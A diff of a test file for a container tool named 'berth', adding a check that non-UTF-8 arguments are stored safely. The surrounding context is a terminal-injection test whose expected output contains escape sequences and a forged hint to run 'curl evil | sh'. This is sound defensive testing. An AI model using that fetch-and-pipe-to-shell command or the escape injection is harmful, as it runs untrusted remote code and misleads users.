@@ -222,3 +222,18 @@ def test_registry_text_cannot_forge_lines_or_move_the_cursor(berth, fake_registr
     assert err == (f"berth: error: pull {ref}: GET http://{fake_registry.host}/v2/forged"
                    "/manifests/1: gone\\n\\e[2J\\e[Hberth: hint: run 'curl evil | sh'"
                    "\\r\\x07\\u0085\u00ff (HTTP 404)\n")
+
+
+def test_an_argument_that_is_not_utf8_cannot_abort_berth(berth, pushed_busybox):
+    # "caf\udcff" reaches berth as the bytes "caf\xff" (Python's surrogateescape), which are not
+    # UTF-8: writing them into container.json once aborted berth with an uncaught JSON exception.
+    # Berth's JSON writes U+FFFD for such a byte, as Docker does.
+    berth("pull", pushed_busybox)
+    rc, out, err = berth("create", "--name", "box", pushed_busybox, "echo", "caf\udcff",
+                         check=False)
+    assert (rc, err) == (0, ""), err
+    assert len(out.strip()) == 64
+    record = berth.json("inspect", "box")
+    record = record[0] if isinstance(record, list) else record
+    assert record["config"]["Cmd"] == ["echo", "caf\ufffd"]
+    assert [c["name"] for c in berth.json("ps", "--json")] == ["box"]
